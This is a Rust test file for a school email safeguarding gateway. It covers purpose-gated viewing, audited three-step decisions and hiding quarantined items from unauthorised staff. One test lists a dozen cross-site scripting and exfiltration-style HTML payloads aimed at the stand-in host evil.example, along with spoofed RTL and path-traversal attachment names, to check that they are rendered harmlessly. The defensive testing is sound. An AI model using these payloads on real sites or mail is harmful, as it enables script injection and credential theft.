//! One item on one screen: covered until a purpose is given, decided in three steps, and not there for
//! whoever has no business with it.

use super::{
    Browser, DEPUTY, School, gate,
    queue::{STRANGER, SUBJECT, colleague_elsewhere, ids, quarantined},
};
use crate::{
    dangers::GROOMING,
    gate::{Gate, HEAD, LEAD, PUPIL, TEACHER, mail},
};
use reqwest::StatusCode;
use std::fs;

const GOVERNOR: &str = "g.whitlock@oakfield.example";
const ADMIN: &str = "s.adeyemi@oakfield.example";

fn events(gate: &Gate, event: &str) -> usize {
    gate.home.list(&["ledger", "list"]).iter().filter(|row| row["event"] == event).count()
}

fn state(gate: &Gate, id: &str) -> String {
    let all = gate.home.list(&["quarantine", "list"]);
    all.iter().find(|item| item["id"] == id).unwrap()["state"].as_str().unwrap().to_owned()
}

/// Gives a purpose, and returns the page as it is then.
pub(super) fn opened(browser: &mut Browser, id: &str) -> String {
    let look = browser.post(&format!("/queue/{id}/look"), &[("purpose", "safeguarding"), ("words", "a tip")]);
    assert_eq!(
        (look.status, look.leads_to()),
        (StatusCode::SEE_OTHER, format!("/queue/{id}").as_str()),
        "{}",
        look.text
    );
    let page = browser.get(&format!("/queue/{id}"));
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    page.text
}

#[test]
fn an_item_is_opened_with_a_purpose_and_decided_in_three_steps() {
    let gate = gate();
    quarantined(&gate, &[PUPIL]);
    let id = ids(&gate).remove(0);
    let place = format!("/queue/{id}");
    let school = School::of(&gate);
    let mut lead = school.officer(&gate, LEAD, "lead").browser;
    let mut head = school.head.browser;

    // From the notice: the page, the purpose, the decision.
    let covered = lead.get(&place).text;
    assert!(
        !covered.contains(SUBJECT) && !covered.contains(STRANGER) && covered.contains("covered"),
        "{covered}"
    );
    assert_eq!(
        lead.get(&format!("{place}/message")).status,
        StatusCode::NOT_FOUND,
        "nobody has said what for"
    );
    assert_eq!((events(&gate, "item.viewed"), events(&gate, "item.bytes-viewed")), (0, 0));
    let open = opened(&mut lead, &id);
    for wanted in [SUBJECT, STRANGER, "Not proved", "Amelia Martin", "sandbox=\"\"", "marked in the message"]
    {
        assert!(open.contains(wanted), "{wanted}: {open}");
    }
    assert!(events(&gate, "item.viewed") == 1 && events(&gate, "item.bytes-viewed") == 1);
    let message = lead.get(&format!("{place}/message"));
    let policy = message.headers["content-security-policy"].to_str().unwrap();
    assert!(
        policy.starts_with("sandbox; default-src 'none'") && policy.contains("frame-ancestors 'self'"),
        "{policy}"
    );
    assert!(message.text.contains("<mark>") && !message.text.contains("<script"), "{}", message.text);

    assert!(open.contains("Nothing that this rule found was decided"), "{open}");

    // Another reviewer at it is seen by name and office.
    let seen = head.get(&place).text;
    assert!(seen.contains("(safeguarding lead)"), "{seen}");

    let wrong = lead.post(&format!("{place}/decide"), &[("act", "keep")]);
    assert_eq!(wrong.status, StatusCode::UNPROCESSABLE_ENTITY, "without a reason");
    let kept = lead.post(&format!("{place}/decide"), &[("act", "keep"), ("ready", "Evidence of a concern")]);
    assert_eq!(kept.leads_to(), format!("{place}?said=keep"), "{}", kept.text);
    assert_eq!(state(&gate, &id), "kept-as-evidence");
    assert!(lead.get(&format!("{place}?said=keep")).text.contains("Undo"));
    let judged = lead.get(&place).text;
    assert!(judged.contains("In 90 days 1 of 1 decided items"), "{judged}");
    let bundle = lead.post(&format!("{place}/bundle"), &[]);
    assert_eq!(bundle.headers["content-type"], "application/zip");
    let file = gate.home.path("evidence.zip");
    fs::write(&file, &bundle.bytes).unwrap();
    let checked = gate.home.run(&["records", "verify", file.to_str().unwrap()]);
    assert_eq!(checked.code(), 0, "{} {}", checked.out, checked.err);
    lead.post(&format!("{place}/decide"), &[("act", "reopen"), ("words", "a slip")]);
    assert_eq!(state(&gate, &id), "open");
    // Of contact the gate writes to no party: it is not offered, and not done when it is asked for.
    assert!(!open.contains("Return to its sender") && open.contains("Release to its recipients"), "{open}");
    let advised = [("act", "return"), ("words", "tone"), ("advice", "again")];
    assert_eq!(lead.post(&format!("{place}/decide"), &advised).status, StatusCode::UNPROCESSABLE_ENTITY);
    let accused = [("who", "0"), ("word", "yes"), ("words", "the pupil said so")];
    assert_eq!(lead.post(&format!("{place}/accused"), &accused).leads_to(), format!("{place}?said=accused"));
    assert!(lead.get(&place).text.contains("said to be accused"));
    let held = lead.post(&format!("{place}/decide"), &[("act", "legal-hold"), ("words", "a claim")]);
    assert_eq!(held.leads_to(), format!("{place}?said=legal-hold"), "{}", held.text);
    let over = lead
        .post(&format!("{place}/decide"), &[("act", "hand-over"), ("to", "head"), ("words", "I know them")]);
    assert_eq!(over.leads_to(), "/queue", "{}", over.text);
    assert!(head.get("/queue").text.contains(&id));
    assert_eq!(gate.home.run(&["ledger", "verify"]).code(), 0);
}

#[test]
fn an_item_is_not_there_for_whoever_has_no_business_with_it() {
    let gate = gate();
    quarantined(&gate, &[PUPIL, DEPUTY]);
    let id = ids(&gate).remove(0);
    let school = School::of(&gate);
    let mut lead = school.officer(&gate, LEAD, "lead").browser;
    opened(&mut lead, &id);
    let others = [
        ("a party", school.officer(&gate, DEPUTY, "deputy").browser),
        ("staff", school.officer(&gate, TEACHER, "staff").browser),
        ("a governor", school.officer(&gate, GOVERNOR, "governor").browser),
        ("an admin", school.officer(&gate, ADMIN, "admin").browser),
        ("the other school's head", colleague_elsewhere(&gate).browser),
    ];
    for (who, mut browser) in others {
        let tried = [
            browser.get(&format!("/queue/{id}")),
            browser.get(&format!("/queue/{id}/message")),
            browser.get(&format!("/queue/{id}/live")),
            browser.post(&format!("/queue/{id}/look"), &[("purpose", "safeguarding")]),
            browser.post(&format!("/queue/{id}/decide"), &[("act", "release"), ("words", "x")]),
            browser.post(&format!("/queue/{id}/accused"), &[("who", "0"), ("word", "no"), ("words", "x")]),
        ];
        let nobodys = browser.get("/queue/0000000000");
        assert_eq!(nobodys.status, StatusCode::NOT_FOUND, "{who}");
        for page in tried {
            assert_eq!(page.status, StatusCode::NOT_FOUND, "{who}: {}", page.text);
            assert!(
                !page.text.contains(SUBJECT) && !page.text.contains(STRANGER) && !page.text.contains(&id),
                "{who}"
            );
        }
    }
    assert_eq!(state(&gate, &id), "open");
    assert!(Browser::new(&gate).get(&format!("/queue/{id}")).leads_to().starts_with("/sign-in"));
    let mut head = school.head.browser;
    assert_eq!(head.get(&format!("/queue/{id}")).status, StatusCode::OK, "{HEAD}");
}

/// Bodies that would act, load or lead away; `evil.example` is wherever they would go.
const HOSTILE: [&str; 12] = [
    "<script src=http://evil.example/x.js></script>",
    "<img src=http://evil.example/p.gif onerror=alert(1)>",
    "<svg onload=alert(1)><use href=http://evil.example/s.svg#x></svg>",
    "<style>@import 'http://evil.example/c.css';</style>",
    "<p style='background:url(http://evil.example/b.png);position:fixed;inset:0'>x</p>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=password></form>",
    "<a href=javascript:alert(1)>x</a><a href=data:text/html,x>y</a><a href=http://evil.example>z</a>",
    "<iframe src=http://evil.example></iframe><object data=http://evil.example></object>",
    "<table background=http://evil.example/t><tr><td colspan=65000 rowspan=65000>x</table>",
    "</div></body></html><script>alert(1)</script>",
    "<base href=http://evil.example/><link rel=stylesheet href=/c.css>",
];

#[test]
fn hostile_messages_are_shown_as_text_with_names_made_safe() {
    let gate = gate();
    for hostile in HOSTILE {
        let raw = format!(
            "From: \"<script>alert(1)</script>\" <{STRANGER}>\r\nTo: {PUPIL}\r\nSubject: <img src=x onerror=alert(1)> \
             =?utf-8?Q?=E2=80=AE?=txt.exe\r\nMessage-ID: <h{}@client.example>\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=edge\r\n\r\n--edge\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
             <p>{GROOMING}</p>{hostile}\r\n--edge\r\nContent-Type: text/plain; name=\"../../<b>x\u{202e}gpj.txt\"\r\n\
             Content-Disposition: attachment\r\n\r\n<script>alert(2)</script>\r\n--edge--\r\n",
            hostile.len()
        );
        assert!(gate.send_unproved(STRANGER, &[PUPIL], &raw).starts_with("250"), "{hostile}");
    }
    let all = ids(&gate);
    assert_eq!(all.len(), HOSTILE.len());
    let school = School::of(&gate);
    let mut lead = school.officer(&gate, LEAD, "lead").browser;
    for id in all {
        let page = opened(&mut lead, &id);
        for bad in ["<script>alert", "<img src", "onerror=alert(1)>", "\u{202e}", "../../", "evil.example"] {
            assert!(!page.contains(bad), "{bad}: {page}");
        }
        let message = lead.get(&format!("/queue/{id}/message"));
        assert!(message.headers["content-security-policy"].to_str().unwrap().starts_with("sandbox;"));
        assert_eq!(message.headers["x-frame-options"], "SAMEORIGIN");
        for bad in [
            "<script",
            "<img",
            "<svg",
            "<form",
            "<a ",
            "<iframe",
            "<object",
            "<meta http",
            "<base",
            "<link",
            "evil.example",
            "\u{202e}",
        ] {
            assert!(!message.text.contains(bad), "{bad}: {}", message.text);
        }
        assert!(
            message.text.contains("<mark>") && message.text.contains("&lt;script&gt;alert(2)"),
            "{}",
            message.text
        );
    }
}

#[test]
fn the_conversation_of_an_item_is_beside_it_and_the_next_one_is_a_step_away() {
    let gate = gate();
    let answering = |own: &str, answers: &str| {
        let raw = mail(STRANGER, PUPIL, SUBJECT, GROOMING);
        let (_, rest) = raw.split_once("Message-ID:").unwrap();
        let (_, rest) = rest.split_once("\r\n").unwrap();
        let fields = format!("Message-ID: <{own}@chat.example>\r\nReferences: <{answers}@chat.example>\r\n");
        let raw = format!("{}{fields}{rest}", raw.split_once("Message-ID:").unwrap().0);
        assert!(gate.send_unproved(STRANGER, &[PUPIL], &raw).starts_with("250"));
    };
    answering("two", "one");
    answering("other", "else");
    // What the deputy got is there for nobody but the others.
    let raw = mail(STRANGER, &[PUPIL, DEPUTY].join(", "), SUBJECT, GROOMING).replacen(
        "\r\nMIME",
        "\r\nIn-Reply-To: <two@chat.example>\r\nMIME",
        1,
    );
    assert!(gate.send_unproved(STRANGER, &[PUPIL, DEPUTY], &raw).starts_with("250"));
    answering("four", "one");
    let all = ids(&gate);
    let [two, other, three, four] = &all[..] else { panic!("{all:?}") };
    let school = School::of(&gate);
    let mut lead = school.officer(&gate, LEAD, "lead").browser;
    let mut deputy = school.officer(&gate, DEPUTY, "deputy").browser;
    let conversation = |page: &str| -> Vec<bool> {
        let (_, rest) = page.split_once("Of the same conversation").unwrap_or_else(|| panic!("{page}"));
        let (listed, rest) = rest.split_once("</ol>").unwrap();
        assert!(rest.contains("Others of the same people") && rest.contains(&format!("/queue/{other}\"")));
        [two, other, three, four].iter().map(|id| listed.contains(&format!("/queue/{id}\""))).collect()
    };
    assert_eq!(conversation(&opened(&mut lead, two)), [false, false, true, true]);
    assert_eq!(conversation(&opened(&mut deputy, two)), [false, false, false, true]);
    // From the last one the way leads to the first.
    let next = |browser: &mut Browser, id: &str| {
        browser.get(&format!("/queue/{id}/next")).leads_to().trim_start_matches("/queue/").to_owned()
    };
    for (id, then) in [(two, other), (other, three), (three, four), (four, two)] {
        assert_eq!(next(&mut lead, id), *then);
    }
    assert_eq!(next(&mut deputy, other), *four, "not the one that they got");
    let kept = [("act", "keep"), ("ready", "Evidence of a concern")];
    assert_eq!(lead.post(&format!("/queue/{other}/decide"), &kept).status, StatusCode::SEE_OTHER);
    assert_eq!(next(&mut lead, two), *three, "what is decided waits no more");
    assert_eq!(next(&mut lead, other), *three, "from a decided one too");
}
